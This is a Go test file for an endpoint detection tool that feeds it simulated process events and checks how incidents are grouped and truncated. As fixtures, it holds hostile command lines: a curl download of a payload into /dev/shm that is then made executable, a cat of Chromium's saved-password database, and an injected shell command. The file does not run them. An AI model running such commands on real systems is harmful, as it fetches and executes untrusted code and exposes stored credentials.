package incident_test

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/yagura-edr/yagura/internal/controldb"
	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/event"
	"github.com/yagura-edr/yagura/internal/incident"
)

const passwords = "/home/u/.config/chromium/Default/Login Data"

// odd runs n ordinary programs, one odd one, and as many again.
func (t *tape) odd(parent string, n int) *tape {
	t.like(n, parent, 1000, "/usr/bin/stat", "stat -c %Y /srv/app")
	t.start("odd", parent, 900, "/usr/bin/cat", "cat "+passwords)
	t.detect(t.reads("odd", passwords), "browser passwords read", detection.High, "T1555.003")
	t.like(n, parent, 2000, "/usr/bin/stat", "stat -c %Y /srv/app")
	return t
}

func small(root string) []string {
	return []string{"incidents 1", "at-most 20", "beside 240", "in cat /home", "in " + root, "out stat -c"}
}

// download fetches /dev/shm/k and makes it executable, with other programs between the two when there are any.
func (t *tape) download(parent string, between ...func()) {
	t.start("curl", parent, 901, "/usr/bin/curl", "curl -so /dev/shm/k http://203.0.113.9/k")
	t.connect("curl", "203.0.113.9:80")
	t.write("curl", "/dev/shm/k", "77")
	for _, f := range between {
		f()
	}
	t.start("chmod", parent, 902, "/usr/bin/chmod", "chmod +x /dev/shm/k")
	t.add(event.Event{Kind: event.FileChmod, Actor: *t.procs["chmod"], Parent: t.up("chmod"), File: event.File{Path: "/dev/shm/k", VolumeID: "0:25", FileID: "77", Mode: 0o755}})
}

// processes counts those that are drawn.
func processes(s incident.Story) (n int) {
	for _, x := range s.Nodes {
		if x.Kind == incident.NodeProcess {
			n++
		}
	}
	return n
}

// Not the number of 240: neither thirty programs nor a hundred, nor shells of shells, make one odd act a long story.
func TestOddActStaysSmallWhateverRunsBesideIt(t *testing.T) {
	for _, n := range []int{0, 4, 9, 15, 30, 60, 400} {
		tp := newTape(hostA)
		tp.start("script", "init", 61, "/usr/bin/bash", "bash /home/u/nightly.sh")
		for i := range 2 * n / 3 { // some start programs themselves
			name := fmt.Sprint("s", i)
			tp.start(name, "script", uint64(5000+i), "/usr/bin/dash", "sh -c date; df")
			tp.like(2, name, uint64(6000+2*i), "/usr/bin/df", "df -P")
		}
		tp.odd("script", n/6)
		if got := processes(tp.story()); got > 20 {
			t.Errorf("%d programs in groups beside it: %d processes are shown; want 20 at most", n, got)
		}
	}
}

// runAfterShell is the case of a test script: an attack in a script of its own, and later a word in the parent's acts.
func runAfterShell(n int) *tape {
	t := newTape(hostA)
	t.start("driver", "init", 60, "/home/u/driver", "/home/u/driver")
	t.start("run", "driver", 61, "/usr/bin/bash", "bash")
	t.start("sleep", "run", 62, "/usr/bin/sleep", "sleep 0.1")
	t.like(n/2, "run", 1000, "/usr/bin/date", "date +%s")
	t.start("attack", "run", 70, "/usr/bin/bash", "bash /src/dev/attacks/web-shell.sh")
	t.start("service", "attack", 100, "/usr/bin/perl", "perl /src/dev/attacks/lib/weak-service.pl /tmp/port")
	t.net(event.NetListen, "service", "127.0.0.1:8080", "0.0.0.0:0")
	t.net(event.NetAccept, "service", "127.0.0.1:8080", "127.0.0.1:51000")
	t.detect(t.start("sh", "service", 101, "/usr/bin/dash", "sh -c convert -size x; id"), "service started a shell", detection.Critical)
	t.start("curl", "sh", 102, "/usr/bin/curl", "curl -so /dev/shm/k http://127.0.0.1:90/k")
	t.net(event.NetConnect, "curl", "127.0.0.1:40100", "127.0.0.1:90")
	t.write("curl", "/dev/shm/k", "77")
	t.detect(t.startFile("payload", "sh", 104, "/dev/shm/k", "/dev/shm/k", "77"), "program run from memory", detection.High)
	t.like(7, "payload", 200, "/usr/bin/id", "id")
	for i, cmd := range []string{"mkdir -p /tmp/mimipenguin-notes", "ls /tmp/mimipenguin-notes", "git init mimipenguin"} {
		name := fmt.Sprint("odd", i)
		t.detect(t.start(name, "run", uint64(800+i), "/usr/bin/"+strings.Fields(cmd)[0], cmd), "memory of a process dumped", detection.High)
	}
	t.like(n-n/2, "run", 4000, "/usr/bin/grep", "grep -c x /tmp/log")
	return t
}

// desk runs a tape through a desk that works while events come, and gives the stories.
func desk(t *testing.T, list []event.Stamped, dets []detection.Detection, every int) []incident.Kept {
	t.Helper()
	db, err := controldb.Open(t.Context(), filepath.Join(t.TempDir(), "c.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = db.Close() }()
	d := incident.New(incident.Options{Store: db.Incidents(), Now: func() time.Time { return time.UnixMicro(t0).Add(time.Hour) }})
	by := map[event.ID][]detection.Detection{}
	for _, x := range dets {
		by[x.Event.ID] = append(by[x.Event.ID], x)
	}
	for i, e := range list {
		d.Observe(t.Context(), tenantMain, list[i:i+1])
		for _, x := range by[e.ID] {
			if err := d.Receive(t.Context(), x); err != nil {
				t.Fatal(err)
			}
		}
		if i%every == 0 {
			if err := d.Flush(t.Context()); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := d.Flush(t.Context()); err != nil {
		t.Fatal(err)
	}
	rows, err := d.List(t.Context(), tenantMain, incident.Query{})
	if err != nil {
		t.Fatal(err)
	}
	var out []incident.Kept
	for _, r := range rows {
		k, _, err := d.Get(t.Context(), tenantMain, r.ID)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, k)
	}
	slices.SortFunc(out, func(a, b incident.Kept) int { return int(b.Row.Severity) - int(a.Row.Severity) })
	return out
}

// Words in the acts of the shell that also ran an attack: the attack's story stays as it was, theirs is small.
func TestFalsePositiveOfTheParentLeavesTheAttackAsItWas(t *testing.T) {
	for _, n := range []int{40, 787, 1813} {
		tp := runAfterShell(n)
		k := desk(t, tp.events, tp.dets, 50)
		if len(k) != 2 || k[0].Row.Processes != 11 || k[0].Row.Detections != 2 || k[1].Row.Processes != 4 || k[1].Row.Detections != 3 {
			for _, x := range k {
				t.Logf("%s: %d processes, %d detections", x.Row.Title.En, x.Row.Processes, x.Row.Detections)
			}
			t.Errorf("beside %d programs there are %d incidents; want the attack's 11 processes and the 4 of the false positive", n, len(k))
		}
	}
}

// A very long story shows what tells most and says what it left out, also when all of it was found by rules.
func TestLongStorySaysWhatItLeftOut(t *testing.T) {
	tp := newTape(hostA)
	tp.start("tool", "init", 61, "/home/u/tool", "/home/u/tool")
	for i := range 450 {
		s := tp.start(fmt.Sprint(i), "tool", uint64(1000+i), "/usr/bin/cat", "cat "+passwords)
		sev := detection.Medium
		if i == 400 {
			sev = detection.Critical
		}
		tp.detect(s, fmt.Sprint("rule ", i%3), sev)
	}
	begin := time.Now()
	s := tp.story()
	if took := time.Since(begin); took > 2*time.Second {
		t.Errorf("it took %v", took)
	}
	if n := processes(s); n > 200 || s.LeftOut.Members != 451+1-n || !s.Truncated {
		t.Errorf("%d processes are shown, %d counted as left out of 452 with the one above (truncated %v)", n, s.LeftOut.Members, s.Truncated)
	}
	over := 0
	for _, f := range s.Folds {
		if f.Kind == incident.FoldOver {
			over += f.Count
		}
	}
	if over != s.LeftOut.Members {
		t.Errorf("the folds stand for %d; want all %d", over, s.LeftOut.Members)
	}
	wantMembers(t, tp, s, []string{"tool", "400"}, nil)
}

// pipe says that one program reads what another writes.
func (t *tape) pipe(reader, writer string) event.Stamped {
	return t.add(event.Event{Kind: event.ProcessPipe, Actor: *t.procs[reader], Parent: t.up(reader), Target: *t.procs[writer], Upstream: []string{t.procs[writer].Path}})
}
